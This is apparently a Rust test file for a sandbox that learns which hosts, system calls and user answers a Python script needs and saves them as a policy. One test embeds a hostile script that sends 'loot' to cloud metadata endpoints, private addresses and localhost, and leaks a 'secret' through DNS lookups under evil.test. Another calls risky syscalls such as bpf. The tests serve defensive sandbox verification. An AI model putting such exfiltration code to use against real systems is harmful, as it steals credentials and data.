//! Learning hosts, system calls and answers: what a run lacked beside its files becomes rules with which it passes.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests fail by panicking")]

mod seen;
#[path = "../../belljar/tests/support/server.rs"]
mod server;
#[path = "seen/stage.rs"]
mod stage;

use std::fs;
use std::path::PathBuf;

use seen::{Seen, see};
use server::Server;
use stage::Stage;

fn is_ready() -> bool {
    seen::is_ready(&["--require=net=namespaces", "--", "python3", "-c", "1"])
}

/// A project to learn in, and a user who answers.
struct Project(Stage);

impl Project {
    fn new(name: &str, answers: &'static [&'static str]) -> Self {
        let project = Self(Stage::new(name, answers));
        let folder = project.0.path("project");
        fs::create_dir(&folder).unwrap();
        std::os::unix::fs::chown(&folder, None, None).unwrap();
        project
    }

    fn policy(&self) -> PathBuf {
        self.0.path("learned.toml")
    }

    fn belljar(&self, words: &[&str], script: &str) -> Seen {
        let tail = ["--host=mirror.test=127.0.0.1", "--", "python3", "-c", script];
        let mut command = seen::command(words.iter().copied().chain(tail));
        see(command.current_dir(self.0.path("project")).env("HOME", self.0.folder.path()))
    }

    fn learn(&self, more: &[&str], script: &str) -> Seen {
        let save = format!("--save={}", self.policy().display());
        self.belljar(&[&["learn", save.as_str()], more].concat(), script)
    }

    fn run_learned(&self, script: &str) -> Seen {
        let policy = format!("--policy={}", self.policy().display());
        self.belljar(&["run", &policy], script)
    }

    fn text(&self) -> String {
        fs::read_to_string(self.policy()).unwrap()
    }
}

fn fetch(port: u16) -> String {
    format!(
        "import urllib.request\nprint(urllib.request.urlopen('http://mirror.test:{port}/', timeout=20).read().decode())"
    )
}

#[test]
fn a_host_is_learned_by_its_name_and_is_not_reached_meanwhile() {
    if !is_ready() {
        return;
    }
    let server = Server::start("package");
    let port = server.port;
    let project = Project::new("learn-host", &[]);
    let taught = project.learn(&[], &fetch(port));
    assert!(taught.status == 1 && taught.out.is_empty(), "{taught:?}");
    assert_eq!(server.visits(), 0, "nothing is granted while learning");
    assert!(taught.err.contains(&format!("--net mirror.test:{port}")), "{taught:?}");
    let text = project.text();
    assert!(
        text.contains(&format!("\"mirror.test:{port}\"")) && text.contains("# review: python3"),
        "{text}"
    );
    assert!(!text.contains("syscalls"), "what every look-up tries is no lack: {text}");
    let again = project.run_learned(&fetch(port));
    assert_eq!((again.status, again.out.as_str()), (0, "package\n"), "{again:?}");
    assert_eq!(server.visits(), 1);
}

#[test]
fn an_address_of_ipv6_is_learned_as_it_was_written() {
    if !is_ready() {
        return;
    }
    let project = Project::new("learn-number", &[]);
    let script = "import socket
try: socket.create_connection(('2001:db8::1', 8443), 5)
except ConnectionRefusedError: print('refused')";
    let taught = project.learn(&[], script);
    assert_eq!((taught.status, taught.out.as_str()), (0, "refused\n"), "{taught:?}");
    assert!(project.text().contains("\"[2001:db8::1]:8443\""), "{}", project.text());
}

#[test]
fn a_hostile_build_teaches_no_address_that_trusts_its_neighbours() {
    if !is_ready() {
        return;
    }
    let server = Server::start("package");
    let port = server.port;
    let project = Project::new("learn-thief", &[]);
    let script = format!(
        "import socket
for host, port in [('169.254.169.254', 80), ('metadata.google.internal', 80), ('10.0.0.1', 22), ('127.0.0.1', {port}),
        ('localhost', {port}), ('nas.local', 445), ('denied.test', 443), ('::ffff:192.168.0.1', 80)]:
    try: socket.create_connection((host, port), 5).sendall(b'loot')
    except OSError: pass
for n in range(50):
    try: socket.create_connection(('%s.evil.test' % ('x' * n + 'secret'), 53), 5)
    except OSError: pass
raise SystemExit(3)"
    );
    let taught = project.learn(&["--deny-net=denied.test"], &script);
    assert_eq!((taught.status, server.visits()), (3, 0), "{taught:?}");
    let text = project.text();
    for near in [
        "169.254",
        "metadata",
        "10.0.0.1",
        "127.0.0.1",
        "localhost",
        "nas.local",
        "denied",
        "192.168",
        "syscalls",
    ] {
        assert!(!text.contains(near), "{near}: {text}");
    }
    let proposed = text.lines().filter(|line| line.contains("evil.test")).count();
    assert!(proposed <= 32 && text.matches("# review: ").count() >= proposed, "{text}");
    assert!(
        taught.err.contains("connect 169.254.169.254:80") && taught.err.contains("metadata"),
        "{taught:?}"
    );
}

#[test]
fn a_group_of_system_calls_is_learned_where_nothing_else_was_lacking() {
    if !is_ready() {
        return;
    }
    let project = Project::new("learn-call", &[]);
    let script = "import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind('/tmp/s'); s.listen()
c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); c.connect('/tmp/s'); print('connected')";
    let taught = project.learn(&[], script);
    assert!(taught.status == 1 && taught.out.is_empty(), "{taught:?}");
    let text = project.text();
    assert!(text.contains("\"@socket-unix\"") && text.contains("# review: bind AF_UNIX"), "{text}");
    let again = project.run_learned(script);
    assert_eq!((again.status, again.out.as_str()), (0, "connected\n"), "{again:?}");
}

#[test]
fn what_opens_much_of_the_kernel_is_named_and_never_proposed() {
    if !is_ready() {
        return;
    }
    let project = Project::new("learn-danger", &[]);
    let script = "import ctypes, sys
c = ctypes.CDLL(None, use_errno=True)
for nr in (321, 298, 250, 101, 310): c.syscall(nr, 0, 0, 0, 0, 0)
sys.exit(4)";
    let taught = project.learn(&[], script);
    assert_eq!(taught.status, 4, "{taught:?}");
    assert!(taught.err.contains("--allow-syscall bpf would allow it"), "{taught:?}");
    assert!(!project.policy().try_exists().unwrap(), "{taught:?}");
}

#[test]
fn answers_while_learning_let_the_run_go_on_and_become_rules() {
    if !is_ready() {
        return;
    }
    let server = Server::start("package");
    let port = server.port;
    let project = Project::new("learn-ask", &["once", "once", "never", "never"]);
    let ask = format!("--ask=socket:{}", project.0.path("ask").display());
    let (read, refused) = (project.0.path("host/a"), project.0.path("host/b"));
    let script = format!(
        "{}\nprint(open('{}').read(), end='')\nfor bad in (lambda: open('{}'), lambda: urllib.request.urlopen('http://other.test:{port}/')):
    try: bad(); print('bad')
    except OSError: pass",
        fetch(port),
        read.display(),
        refused.display()
    );
    let taught = project.learn(&[&ask], &script);
    assert_eq!((taught.status, taught.out.as_str()), (0, "package\ntext of a\n"), "{taught:?}");
    let questions = project.0.questions();
    assert_eq!(questions.len(), 4, "{questions:?}");
    let always = serde_json::json!(["once", "never"]);
    assert!(questions.iter().all(|asked| asked["answers"] == always), "a lesson is the only file");
    let text = project.text();
    assert!(
        text.contains(&format!("\"mirror.test:{port}\"")) && text.contains("granted when asked"),
        "{text}"
    );
    assert!(text.contains("host/a\" = \"read-noexec\""), "{text}");
    assert!(!text.contains("host/b") && !text.contains("other.test"), "a no is no rule: {text}");
    let again = project.run_learned(&script);
    assert_eq!((again.status, again.out.as_str()), (0, "package\ntext of a\n"), "{again:?}");
    assert_eq!(server.visits(), 2);
}
